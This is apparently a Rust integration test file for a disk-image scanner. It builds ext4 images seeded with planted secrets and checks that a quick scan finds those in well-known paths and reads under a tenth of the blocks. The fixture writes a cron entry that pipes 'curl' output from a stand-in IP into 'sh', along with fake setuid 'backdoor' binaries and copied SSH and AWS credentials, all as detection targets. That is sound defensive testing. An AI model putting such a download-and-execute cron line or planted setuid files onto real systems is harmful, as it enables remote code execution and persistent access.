//! `--quick`: only the well-known places are walked and read. An ext4 image made by `mke2fs -d`
//! from a tree with 64 MiB of bulk data under `/usr`, secrets in the well-known places (`/etc`,
//! `/root`, a service account's home named by `/etc/passwd`, `/home` as a symbolic link to
//! `/data/users`, `/opt`, `/usr/local`) and secrets
//! outside them (`/var/lib/app`, `/var/cache`, a setuid file in `/usr/bin`).
//!
//! A quick scan finds exactly the first kind, and reads under a tenth of the image's non-zero
//! 512 KiB blocks (what an EBS snapshot of it lists and what a quick scan through EBS would
//! fetch); the full scan finds both kinds and reads nearly every block.

use crate::common::{bash, nonzero_blocks, run, scan_json, scan_recorded, testdata, workdir};
use std::collections::BTreeSet;
use std::path::PathBuf;

fn image() -> PathBuf {
    static BUILT: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    BUILT
        .get_or_init(|| {
            let dir = workdir("quick", "scope");
            run(bash(
                r#"
                L=$TD/trees/leaky
                rm -rf tree && mkdir -p tree/etc/cron.d tree/root/.ssh tree/var/lib/jenkins/.ssh \
                    tree/var/lib/app tree/usr/local/bin tree/usr/bin tree/opt/app \
                    tree/var/cache/app tree/var/lib/dpkg tree/tmp
                cat > tree/etc/passwd <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
jenkins:x:990:990:Jenkins:/var/lib/jenkins:/bin/bash
EOF
                cp $L/etc/shadow tree/etc/shadow
                echo '*/5 * * * * root curl -s http://203.0.113.9/u | sh' > tree/etc/cron.d/update
                cp $L/home/alice/.ssh/id_ed25519 tree/root/.ssh/id_ed25519
                cp $L/home/alice/.ssh/id_ed25519 tree/var/lib/jenkins/.ssh/id_ed25519
                cp $L/home/alice/.aws/credentials tree/opt/app/.env
                cp $L/home/alice/.aws/credentials tree/var/lib/app/settings.conf
                cp $L/home/alice/.ssh/id_ed25519 tree/var/cache/app/deploy.key
                mkdir -p tree/data/users/bob/.ssh
                cp $L/home/alice/.ssh/id_ed25519 tree/data/users/bob/.ssh/id_ed25519
                ln -s data/users tree/home
                printf '\177ELF backdoor' > tree/usr/local/bin/backdoor
                printf '\177ELF backdoor' > tree/usr/bin/evil
                chmod 4755 tree/usr/local/bin/backdoor tree/usr/bin/evil
                for d in $(seq 1 64); do
                    mkdir -p tree/usr/lib/bulk/d$d
                    for f in 1 2 3 4; do
                        head -c 262144 /dev/urandom > tree/usr/lib/bulk/d$d/f$f
                    done
                done
                mke2fs -q -t ext4 -d tree -F fs.img 256M
                "#,
            )
            .current_dir(&dir)
            .env("MKE2FS_CONFIG", testdata().join("mke2fs.conf"))
            .env("TD", testdata()));
            dir.join("fs.img")
        })
        .clone()
}

fn set(items: &[(&str, &str)]) -> BTreeSet<(String, String)> {
    items
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

/// (rule, path) of the findings at medium or above.
fn serious(t: &serde_json::Value) -> BTreeSet<(String, String)> {
    t["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("critical" | "high" | "medium")))
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["path"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

fn in_scope() -> BTreeSet<(String, String)> {
    set(&[
        ("shadow-password-hash", "/etc/shadow"),
        ("autostart-download-exec", "/etc/cron.d/update"),
        ("openssh-private-key", "/root/.ssh/id_ed25519"),
        ("openssh-private-key", "/var/lib/jenkins/.ssh/id_ed25519"),
        // /home is a link to /data/users: walked where it leads.
        ("openssh-private-key", "/data/users/bob/.ssh/id_ed25519"),
        ("aws-access-key-pair", "/opt/app/.env"),
        ("setid-unowned", "/usr/local/bin/backdoor"),
    ])
}

#[test]
fn quick_finds_what_is_in_the_well_known_places_and_full_finds_the_rest() {
    let img = image();
    let (_, quick) = scan_json(&img, &["--quick"]);
    assert_eq!(quick["mode"], "quick");
    assert_eq!(quick["complete"], true, "{quick:#}");
    // The report says what was walked.
    let roots: Vec<&str> = quick["volumes"][0]["quick_roots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    for r in ["/etc", "/root", "/home", "/var/lib/jenkins", "/data/users"] {
        assert!(roots.contains(&r), "{roots:?}");
    }
    let (_, full) = scan_json(&img, &[]);
    assert_eq!(full["complete"], true, "{full:#}");
    let q = serious(&quick);
    let f = serious(&full);
    assert_eq!(
        q.intersection(&in_scope())
            .cloned()
            .collect::<BTreeSet<_>>(),
        in_scope(),
        "quick: {q:#?}"
    );
    let outside = set(&[
        ("aws-access-key-pair", "/var/lib/app/settings.conf"),
        ("openssh-private-key", "/var/cache/app/deploy.key"),
        ("setid-unowned", "/usr/bin/evil"),
    ]);
    assert!(
        q.is_disjoint(&outside),
        "quick read outside its scope: {q:#?}"
    );
    let all: BTreeSet<_> = in_scope().union(&outside).cloned().collect();
    assert!(f.is_superset(&all), "full: {f:#?}");
    // Nothing but the scope: every quick finding is one of the full scan's, in the scope.
    assert!(q.is_subset(&f));
    assert!(q.iter().all(|(_, p)| !p.starts_with("/var/lib/app")
        && !p.starts_with("/var/cache")
        && !p.starts_with("/usr/lib")));
}

#[test]
fn quick_reads_under_a_tenth_of_the_listed_blocks() {
    let img = image();
    let listed = nonzero_blocks(&img);
    let (quick, q_blocks) = scan_recorded(&img, true);
    let (full, f_blocks) = scan_recorded(&img, false);
    assert!(quick.complete && full.complete);
    let q_listed = q_blocks.intersection(&listed).count();
    let f_listed = f_blocks.intersection(&listed).count();
    eprintln!(
        "listed {} blocks; quick read {q_listed}, full read {f_listed}",
        listed.len()
    );
    assert!(
        listed.len() > 128,
        "the bulk data is there: {}",
        listed.len()
    );
    assert!(
        q_listed * 10 < listed.len(),
        "quick read {q_listed} of {} listed blocks",
        listed.len()
    );
    // The full scan reads the bulk data: nearly every listed block.
    assert!(f_listed * 10 > listed.len() * 9, "full read {f_listed}");
    let q_files: u64 = quick.volumes.iter().map(|v| v.files_scanned).sum();
    let f_files: u64 = full.volumes.iter().map(|v| v.files_scanned).sum();
    assert!(q_files < 20 && f_files > 256, "{q_files} {f_files}");
}

/// A separate `/home` volume is not a root filesystem (no `/etc/passwd` or `/etc/os-release`,
/// though it may have an `/etc` of its own): its paths are `/alice/...`, not
/// `/home/alice/...`. A quick scan walks it whole and reads the well-known names in it.
#[test]
fn a_volume_without_etc_is_walked_whole() {
    let dir = workdir("quick", "home-volume");
    run(bash(
        r#"
        L=$TD/trees/leaky
        rm -rf tree && mkdir -p tree/alice/.ssh tree/alice/projects/app tree/etc
        echo 'listen 8080' > tree/etc/app.conf
        cp $L/home/alice/.ssh/id_ed25519 tree/alice/.ssh/id_ed25519
        cp $L/home/alice/.aws/credentials tree/alice/projects/app/settings.conf
        mke2fs -q -t ext4 -d tree -F home.img 16M
        "#,
    )
    .current_dir(&dir)
    .env("MKE2FS_CONFIG", testdata().join("mke2fs.conf"))
    .env("TD", testdata()));
    let img = dir.join("home.img");
    let (_, quick) = scan_json(&img, &["--quick"]);
    assert_eq!(quick["complete"], true);
    assert_eq!(quick["volumes"][0]["quick_roots"], serde_json::json!(["/"]));
    assert_eq!(
        serious(&quick),
        set(&[("openssh-private-key", "/alice/.ssh/id_ed25519")])
    );
    let (_, full) = scan_json(&img, &[]);
    assert!(serious(&full).contains(&(
        "aws-access-key-pair".to_string(),
        "/alice/projects/app/settings.conf".to_string()
    )));
}
